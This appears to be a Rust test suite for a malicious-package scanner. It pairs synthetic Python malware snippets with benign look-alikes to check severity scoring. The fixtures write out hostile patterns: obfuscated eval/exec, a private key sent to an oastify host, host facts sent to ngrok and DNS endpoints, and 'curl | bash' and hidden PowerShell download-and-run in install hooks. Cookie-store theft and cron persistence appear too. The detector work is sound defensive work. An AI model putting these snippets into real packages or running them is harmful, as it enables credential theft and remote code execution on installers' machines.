//! Severity from behaviour, not mentions (issue #12), on small synthetic
//! packages written here: for each rule change, a positive case imitating
//! the malicious pattern (a source reaching a sink, weighted by where it
//! runs) and a negative case with the closest benign look-alike (a
//! mention, documentation, a vendored file).

mod support;

use support::*;

use airlock_inspect::Severity;
use Severity::{Critical, High, Low, Medium};

// ---------------------------------------------------------------- folding through eval of a constant

#[test]
fn eval_obtained_by_evaluating_an_escaped_constant_is_hidden_exec() {
    // BlankOBF style: eval named in octal and hex escapes, then used through aliases.
    let r = module(
        r#"_____ = eval("\145\166\x61\154")
______ = _____("\x63\x6f\x6d\x70\x69\x6c\x65")
_____(______(BLOB, "<x>", "exec"))
"#,
    );
    // Both calls go through the alias: the one that names compile, and the one that runs.
    assert_eq!(hits(&r, "payload/exec-hidden", MOD), [(2, Critical), (3, Critical)]);
}

#[test]
fn eval_of_a_constant_that_is_not_a_code_runner_makes_no_alias() {
    let r = module("conv = eval('int')\nVALUE = conv('3')\nLIMIT = eval('2 ** 10')\n");
    none(&r, "payload/exec-hidden");
}

// ---------------------------------------------------------------- access/exfil-flow

#[test]
fn a_library_function_sending_its_private_key_to_an_oast_host_is_high() {
    let r = module(
        r#"import requests
def sign(private_key, message):
    requests.post("https://c0ffee.oastify.com/k", json={"k": private_key})
    return message
"#,
    );
    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(3, High)]);
}

#[test]
fn host_facts_gathered_then_sent_to_a_tunnel_are_high_and_critical_at_import() {
    let r = module(
        r#"import getpass, socket, requests
def report():
    info = {"user": getpass.getuser(), "host": socket.gethostname()}
    requests.get("https://a1b2.ngrok-free.app/r", params=info)
requests.get("https://a1b2.ngrok-free.app/i", params={"h": socket.gethostname()})
"#,
    );
    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(4, High), (5, Critical)]);
}

#[test]
fn secrets_sent_to_the_project_own_api_or_nothing_sent_to_a_collector_is_no_flow() {
    let r = module(
        r#"import requests
def login(password):
    return requests.post("https://api.acme.example.com/login", json={"password": password})
def ping():
    return requests.get("https://hooks.example.com/ping")
"#,
    );
    none(&r, "access/exfil-flow");
}

// ---------------------------------------------------------------- process launch through a helper

#[test]
fn a_hidden_powershell_download_passed_to_a_local_popen_helper_is_critical() {
    let r = module(
        r#"import subprocess
def launch(cmd):
    return subprocess.Popen(cmd, shell=True, creationflags=0x08000000)
launch('powershell -WindowStyle Hidden -Command "Invoke-WebRequest https://cdn.example.net/u.exe -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe"')
"#,
    );
    assert_eq!(hits(&r, "payload/shell-download", MOD), [(4, Critical)]);
}

#[test]
fn a_git_command_passed_to_a_local_helper_is_a_low_build_step() {
    let r = setup_py(
        r#"import subprocess
from setuptools import setup
def run(cmd):
    return subprocess.check_output(cmd).decode().strip()
setup(version=run(["git", "describe", "--tags"]))
"#,
    );
    none(&r, "payload/shell-download");
    // The helper runs an unknown command (medium); the call through it runs git (a build step).
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(4, Medium), (5, Low)]);
}

// ---------------------------------------------------------------- command overrides through the package

#[test]
fn an_install_override_running_a_module_of_the_package_makes_that_module_install_time() {
    let r = sdist(&[
        (
            "setup.py",
            r#"from setuptools import setup
from setuptools.command.install import install
class PostInstall(install):
    def run(self):
        install.run(self)
        from acme import hooks
        hooks.after_install()
setup(cmdclass={"install": PostInstall})
"#,
        ),
        ("acme/__init__.py", ""),
        ("acme/hooks.py", "import os\ndef after_install():\n    os.system('acme-register --quiet')\n"),
    ]);
    assert_eq!(hits(&r, "access/process-on-install", "acme-1.0/acme/hooks.py"), [(3, High)]);
}

#[test]
fn a_setup_py_reading_the_package_version_does_not_make_the_package_install_time() {
    let r = sdist(&[
        ("setup.py", "from setuptools import setup\nimport acme\nsetup(version=acme.get_version())\n"),
        ("acme/__init__.py", "import os\ndef get_version():\n    return '1.0'\ndef open_editor(path):\n    os.system('vi ' + path)\n"),
    ]);
    none(&r, "access/process-on-install");
}

// ---------------------------------------------------------------- access/exfil-endpoint: hosts, not substrings

#[test]
fn a_request_capture_host_counts_as_a_host_name() {
    let r = module("URL = 'https://en4x2.x.requestbin.net/collect'\n");
    assert_eq!(hits(&r, "access/exfil-endpoint", MOD), [(1, High)]);
}

#[test]
fn an_endpoint_name_inside_an_identifier_is_not_a_host() {
    let r = module("BINDING = 'urn:oasis:names:tc:SAML:2.0:bindings:authnRequestBinding'\nKIND = 'requestbin'\n");
    none(&r, "access/exfil-endpoint");
}

// ---------------------------------------------------------------- documentation

#[test]
fn documentation_addresses_and_placeholders_are_not_raw_ip_urls() {
    let r = module("A = 'http://203.0.113.7/api'\nB = 'https://198.51.100.2:8443'\nC = 'http://1.2.3.4/'\nD = 'http://192.0.2.10/x'\n");
    none(&r, "access/raw-ip-url");
    let r = module("E = 'http://45.67.89.12/drop'\n");
    assert_eq!(hits(&r, "access/raw-ip-url", MOD), [(1, High)]);
}

#[test]
fn a_webhook_in_help_text_or_an_examples_constant_is_documentation() {
    let r = module(
        r#"from django import forms
class HookForm(forms.Form):
    url = forms.URLField(help_text="https://discord.com/api/webhooks/123/abc")
EXAMPLES = r'''
- name: notify
  webhook: https://discord.com/api/webhooks/456/def
'''
"#,
    );
    assert_eq!(hits(&r, "access/exfil-endpoint", MOD), [(3, Low), (4, Low)]);
}

// ---------------------------------------------------------------- mentions without an act

#[test]
fn a_browser_cookie_store_named_in_a_file_that_sends_is_high_and_alone_low() {
    let importer = module("import sqlite3\ndef load(profile):\n    return sqlite3.connect(profile + '/cookies.sqlite')\n");
    assert_eq!(hits(&importer, "access/credentials", MOD), [(3, Low)]);
    let stealer = module(
        "import requests, sqlite3\ndef grab(profile):\n    db = sqlite3.connect(profile + '/cookies.sqlite')\n    requests.post(HOOK, files={'c': db})\n",
    );
    assert_eq!(hits(&stealer, "access/credentials", MOD), [(3, High)]);
}

#[test]
fn login_data_in_prose_is_not_a_credential_store() {
    let r = module("MESSAGE = 'Please check your login data. Then try again.'\n");
    none(&r, "access/credentials");
}

#[test]
fn an_autostart_path_written_at_import_is_high_and_named_in_an_uninstaller_low() {
    let dropper = module("import os\nwith open('/etc/cron.d/acme-update', 'w') as f:\n    f.write('* * * * * root /tmp/u\\n')\n");
    assert_eq!(hits(&dropper, "access/persistence", MOD), [(2, High)]);
    let uninstaller = module("import os\ndef uninstall():\n    os.remove(os.path.expanduser('~/Library/LaunchAgents/com.acme.agent.plist'))\n");
    assert_eq!(hits(&uninstaller, "access/persistence", MOD), [(3, Low)]);
}

// ---------------------------------------------------------------- vendored metadata

#[test]
fn console_scripts_of_a_vendored_dist_info_install_nothing() {
    let vendored =
        wheel(&[("acme/__init__.py", ""), ("acme/_vendor/pip-24.0.dist-info/entry_points.txt", "[console_scripts]\npip = pip._internal.cli.main:main\n")]);
    none(&vendored, "install-hook/entry-point-shadowing");
    let own = wheel(&[("acme/__init__.py", ""), ("acme-1.0.dist-info/entry_points.txt", "[console_scripts]\nsudo = acme.cli:main\n")]);
    assert_eq!(hits(&own, "install-hook/entry-point-shadowing", "acme-1.0.dist-info/entry_points.txt"), [(2, High)]);
}

// ---------------------------------------------------------------- the project's own build script

const RUNS_POSTBUILD: &str = r#"import os, subprocess
from setuptools import setup
from setuptools.command.develop import develop
here = os.path.dirname(os.path.abspath(__file__))
class Develop(develop):
    def run(self):
        subprocess.check_call(["bash", "postBuild"], cwd=here)
        develop.run(self)
setup(cmdclass={"develop": Develop})
"#;

#[test]
fn a_build_step_running_the_project_own_script_is_medium() {
    let r = sdist(&[("setup.py", RUNS_POSTBUILD), ("postBuild", "#!/bin/bash\njupyter labextension develop . --overwrite\n"), ("acme/__init__.py", "")]);
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(7, Medium)]);
}

#[test]
fn a_build_step_running_a_shipped_script_that_downloads_and_runs_is_high() {
    let r = sdist(&[("setup.py", RUNS_POSTBUILD), ("postBuild", "#!/bin/bash\ncurl -s https://cdn.example.net/x.sh | bash\n"), ("acme/__init__.py", "")]);
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(7, High)]);
}

// ---------------------------------------------------------------- grouping and the queue's why

#[test]
fn repeated_findings_of_one_rule_are_one_finding_with_its_places() {
    let files: Vec<(String, String)> =
        (0..5).map(|i| (format!("acme/m{i}.py"), "import os\nAGENT = '/etc/cron.d/acme'\ndef f():\n    os.remove(AGENT)\n".to_string())).collect();
    let mut refs: Vec<(&str, &str)> = files.iter().map(|(p, c)| (p.as_str(), c.as_str())).collect();
    refs.push(("acme/__init__.py", ""));
    let r = wheel(&refs);
    let grouped: Vec<_> = r.findings.iter().filter(|f| f.rule == "access/persistence").collect();
    assert_eq!(grouped.len(), 1, "{grouped:#?}");
    assert_eq!(grouped[0].also.len(), 4);
    assert!(grouped[0].message.contains("and 1 more"), "{}", grouped[0].message);
    let one = wheel(&[("acme/__init__.py", ""), (files[0].0.as_str(), files[0].1.as_str())]);
    assert_eq!(r.risk_score, one.risk_score, "the score does not grow with the number of files");
}

#[test]
fn a_flagged_release_says_why_in_its_top_behaviours() {
    let r = setup_py("import os\nfrom setuptools import setup\nos.system('curl -s http://cdn.example.net/i.sh | sh')\nsetup()\n");
    assert!(r.why.len() <= 2 && !r.why.is_empty(), "{:?}", r.why);
    assert!(r.why[0].starts_with("critical payload/shell-download"), "{:?}", r.why);
    let quiet = module("VALUE = 1\n");
    assert!(quiet.why.is_empty(), "{:?}", quiet.why);
}

// ---------------------------------------------------------------- code fed to an interpreter on stdin

#[test]
fn downloaded_code_fed_to_python_on_stdin_is_download_exec() {
    let r = module(
        r#"import subprocess, sys, requests
def update():
    code = requests.get("https://cdn.example.net/u.py", timeout=3).content
    p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
    p.stdin.write(code)
"#,
    );
    assert_eq!(hits(&r, "payload/download-exec", MOD), [(5, Critical)]);
}

#[test]
fn a_local_file_fed_to_python_on_stdin_is_not_download_exec() {
    let r = module(
        r#"import subprocess, sys
def run_script(path):
    p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
    p.stdin.write(open(path, "rb").read())
"#,
    );
    none(&r, "payload/download-exec");
    none(&r, "payload/exec-decoded");
}

// ---------------------------------------------------------------- host facts sent at build time

#[test]
fn host_facts_collected_and_sent_by_setup_py_are_an_exfil_flow() {
    let r = setup_py(
        r#"import getpass, socket
from setuptools import setup
def probe():
    data = getpass.getuser() + "." + socket.gethostname()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(data.encode(), ("ns1.example.net", 53))
setup()
"#,
    );
    assert_eq!(hits(&r, "access/exfil-flow", SETUP), [(6, High)]);
}

#[test]
fn setup_py_reading_the_user_name_without_sending_anything_is_no_flow() {
    let r = setup_py("import getpass\nfrom setuptools import setup\nsetup(author=getpass.getuser())\n");
    none(&r, "access/exfil-flow");
}

// ---------------------------------------------------------------- scripts setup.py starts, unimportable folders

#[test]
fn a_python_script_that_setup_py_starts_runs_at_build_time() {
    let r = sdist(&[
        ("setup.py", "import os, sys\nfrom setuptools import setup\nos.system(f'{sys.executable} tools/post.py')\nsetup()\n"),
        ("tools/post.py", "import requests\nrequests.post('https://collector.example.net/x', data={'a': 1})\n"),
        ("acme/__init__.py", ""),
    ]);
    assert_eq!(hits(&r, "access/network-on-install", "acme-1.0/tools/post.py"), [(2, High)]);
}

#[test]
fn a_tool_script_nobody_starts_stays_unshipped() {
    let r = sdist(&[
        ("setup.py", "from setuptools import setup\nsetup()\n"),
        ("tools/post.py", "import requests\nrequests.post('https://collector.example.net/x', data={'a': 1})\n"),
        ("acme/__init__.py", ""),
    ]);
    none(&r, "access/network-on-install");
}

#[test]
fn a_top_folder_named_as_the_project_ships_even_with_a_hyphen() {
    let metadata = "Metadata-Version: 2.1\nName: acme-tools\nVersion: 1.0\nSummary: x\nAuthor: Ann\n";
    let r = sdist_named("acme-tools-1.0", metadata, &[("acme-tools/core.py", "import os\nos.system('acme-register')\n")]);
    assert_eq!(hits(&r, "access/process-on-install", "acme-tools-1.0/acme-tools/core.py"), [(2, Medium)]);
    let other = sdist_named("acme-tools-1.0", metadata, &[("helper-scripts/core.py", "import os\nos.system('acme-register')\n")]);
    none(&other, "access/process-on-install");
}

// ---------------------------------------------------------------- decoded files written then started

#[test]
fn a_decoded_script_written_then_started_is_exec_decoded() {
    let r = module(
        r#"import subprocess as s, base64 as b, os
def lotus():
    c = b.b64decode('V3JpdGUtSG9zdCBoaQ==').decode()
    f = os.path.join(os.environ['TEMP'], 't.ps1')
    open(f, 'w').write(c)
    s.Popen(['powershell', '-W', 'Hidden', '-F', f])
"#,
    );
    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(6, Critical)]);
}

#[test]
fn a_config_file_written_then_a_tool_started_on_it_is_not_exec_decoded() {
    let r = module(
        r#"import subprocess, json
def render(cfg):
    f = 'build.json'
    open(f, 'w').write(json.dumps(cfg))
    subprocess.run(['make', '-f', f])
"#,
    );
    none(&r, "payload/exec-decoded");
}

// ---------------------------------------------------------------- host facts sent at import, one-line programs kept in strings

#[test]
fn host_facts_sent_by_a_function_called_at_import_are_an_exfil_flow() {
    let r = module(
        r#"import socket, subprocess, requests
def beacon():
    host = socket.gethostname()
    user = subprocess.getoutput("whoami")
    requests.get("https://stats.example.net/p", params={"h": host, "u": user})
beacon()
"#,
    );
    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(5, High)]);
    let unused = module("import socket, requests\ndef beacon():\n    requests.get('https://stats.example.net/p', params={'h': socket.gethostname()})\n");
    none(&unused, "access/exfil-flow");
}

#[test]
fn a_one_line_downloader_kept_in_a_string_is_analysed_as_code() {
    let r = module("import tempfile\nCODE = b\"from urllib.request import urlopen as u;exec(u('https://cdn.example.net/x').read())\"\n");
    assert_eq!(hits(&r, "payload/download-exec", MOD), [(2, Critical)]);
}
